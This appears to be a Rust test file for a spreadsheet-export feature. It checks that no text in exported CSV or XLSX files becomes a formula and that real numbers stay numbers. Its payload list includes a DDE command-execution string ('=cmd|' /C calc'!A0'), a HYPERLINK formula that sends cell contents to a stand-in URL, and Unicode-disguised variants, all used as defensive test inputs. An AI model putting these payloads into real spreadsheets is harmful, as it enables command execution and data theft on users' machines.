//! X2: no text becomes a formula in a spreadsheet; true numbers stay numbers.

use serde_json::json;

use crate::markup::{every_text_is, opened};
use crate::packed;
use crate::recipes::{scheme, with_scheme};

/// What a spreadsheet would run, or ask about, if it stood first in a cell.
const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://x/?\"&A1,\"点此\")",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\u{A0}=1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u{200B}=1+1",
    "\u{FEFF}=1+1",
    "\u{200D}=1+1",
    "\u{AD}+1+1",
    "\u{2028}=1+1",
    "\";=1+1",
    "\",=1+1",
];

/// The cells of a table of comma-separated values.
fn cells(csv: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = csv.trim_start_matches('\u{FEFF}');
    while let Some((_, after)) = rest.split_once('"') {
        let mut cell = String::new();
        let mut inside = after;
        loop {
            let (text, after) = inside.split_once('"').expect("closed");
            cell.push_str(text);
            match after.strip_prefix('"') {
                Some(more) => {
                    cell.push('"');
                    inside = more;
                }
                None => {
                    rest = after;
                    break;
                }
            }
        }
        found.push(cell);
    }
    found
}

fn begins_like_a_formula(cell: &str) -> bool {
    let unseen = |c: char| c.is_whitespace() || "\u{200B}\u{200C}\u{200D}\u{2060}\u{FEFF}\u{AD}".contains(c);
    cell.trim_start_matches(unseen).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

fn is_number(cell: &str) -> bool {
    ziping::number::Exact::parse(cell).is_ok()
}

#[test]
fn no_text_of_any_member_becomes_a_formula() {
    // The formulas of the program itself.
    let usual = |formula: &str| {
        let names = ["ROUND", "SUM", "MIN", "MAX", "IF", "AND", "OR", "COUNT"];
        let words = formula.split(|c: char| !c.is_ascii_alphabetic()).filter(|word| word.len() > 2);
        let mut words = words.filter(|word| !names.contains(word));
        words.next().is_none() && !formula.contains('|') && !formula.contains("HYPERLINK")
    };
    for scheme in ["hubei-2020-unit", "mof-2020-project"] {
        for formula in FORMULAS {
            let (bytes, _) = every_text_is(formula, scheme);
            let made = opened(&bytes);
            let csv = std::str::from_utf8(made.export("csv")).unwrap();
            let bad: Vec<String> = cells(csv)
                .into_iter()
                .filter(|cell| begins_like_a_formula(cell) && !is_number(cell))
                .collect();
            assert!(bad.is_empty(), "{formula:?}: {bad:?}");
            let workbook = made.export("xlsx");
            if !workbook.is_empty() {
                let formulas = packed::formulas(workbook);
                let odd: Vec<&String> = formulas.iter().filter(|formula| !usual(formula)).collect();
                assert!(odd.is_empty(), "{formula:?}: {odd:?}");
            }
        }
    }
}

#[test]
fn no_title_of_a_scheme_and_no_unit_of_a_figure_becomes_a_formula() {
    for formula in FORMULAS {
        let mut scheme = scheme();
        scheme["sections"][0]["title"] = json!(formula);
        scheme["form"]["footnotes"] = json!([formula]);
        scheme["grades"]["bounds"][0]["name"] = json!(formula);
        scheme["report"]["groups"] = json!([]);
        let row = json!({"level1": formula, "name": formula, "points": "5", "target": format!("≥5{formula}"), "actual": format!("5{formula}")});
        let bytes = with_scheme(
            &scheme,
            &json!({"unit": formula, "indicators": [row], "goals": {"annual": formula}, "project": {"name": formula}}),
        );
        let made = opened(&bytes);
        let csv = std::str::from_utf8(made.export("csv")).unwrap();
        assert!(!cells(csv).iter().any(|cell| begins_like_a_formula(cell)), "{csv}");
        let workbook = made.export("xlsx");
        if !workbook.is_empty() {
            assert!(
                packed::formulas(workbook)
                    .iter()
                    .all(|formula| !formula.contains("HYPERLINK") && !formula.contains("1+1"))
            );
        }
    }
}

#[test]
fn true_numbers_stay_numbers() {
    let row = json!({"level1": "产出指标", "points": "5", "target": "-5", "actual": "-5.50", "score": "-1"});
    let bytes = crate::recipes::with(&json!({"indicators": [row]}));
    let made = opened(&bytes);
    let found = cells(std::str::from_utf8(made.export("csv")).unwrap());
    for number in ["-5", "-5.50", "-1"] {
        assert!(found.iter().any(|cell| cell == number), "{number}: {found:?}");
    }
}
